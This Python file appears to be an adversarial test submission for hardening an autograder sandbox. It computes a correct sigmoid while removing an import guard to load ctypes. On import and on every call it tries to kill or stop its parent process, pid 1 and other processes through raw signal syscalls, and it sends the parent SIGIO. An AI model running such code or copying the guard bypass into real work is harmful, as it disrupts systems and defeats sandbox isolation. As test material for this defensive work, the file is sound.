"""Hostile but correct: signal the zygote and every other process with raw system calls through
ctypes (the import guard taken out for the import and put back): kill, tkill, tgkill,
rt_sigqueueinfo with SIGKILL/SIGSTOP/SIGTERM to the parent, pid 1, -1 and 2..63; pidfd_open and
pidfd_send_signal; a pipe in O_ASYNC mode whose owner (F_SETOWN) is the zygote, so that writing
to it sends the zygote SIGIO.  Honest score: full marks (the values are right and the grading
must survive).
"""
import fcntl
import os
import signal
import sys

import numpy as np


def _good(x):
    """A correct, stable sigmoid (what an honest student writes)."""
    x = np.asarray(x)
    x = x if x.dtype.kind == "f" else x.astype(np.float64)
    e = np.exp(-np.abs(x))
    return np.asarray(np.where(x >= 0, 1 / (1 + e), e / (1 + e)), dtype=x.dtype)


def _ctypes():
    saved = list(sys.meta_path)
    sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
    try:
        import ctypes
        return ctypes
    finally:
        sys.meta_path[:] = saved


NR = {"x86_64": {"kill": 62, "tkill": 200, "tgkill": 234, "rt_sigqueueinfo": 129},
      "aarch64": {"kill": 129, "tkill": 130, "tgkill": 131, "rt_sigqueueinfo": 138}}


def _signal_everyone():
    ctypes = _ctypes()
    libc = ctypes.CDLL(None, use_errno=True)
    nr = NR.get(os.uname().machine, NR["x86_64"])
    info = ctypes.create_string_buffer(128)
    me = os.getpid()
    for pid in [os.getppid(), 1, -1, *range(2, 64)]:
        if pid == me:
            continue
        for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            libc.syscall(nr["kill"], pid, sig)
            libc.syscall(nr["tkill"], pid, sig)
            libc.syscall(nr["tgkill"], pid, pid, sig)
            libc.syscall(nr["rt_sigqueueinfo"], pid, sig, info)
            fd = libc.syscall(434, pid, 0)  # pidfd_open
            if fd >= 0:
                libc.syscall(424, fd, sig, None, 0)  # pidfd_send_signal
    r, w = os.pipe()
    try:
        fcntl.fcntl(r, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(w, b"x")
    except OSError:
        pass
    os.close(r)
    os.close(w)


_signal_everyone()


def sigmoid(x):
    _signal_everyone()
    return _good(x)
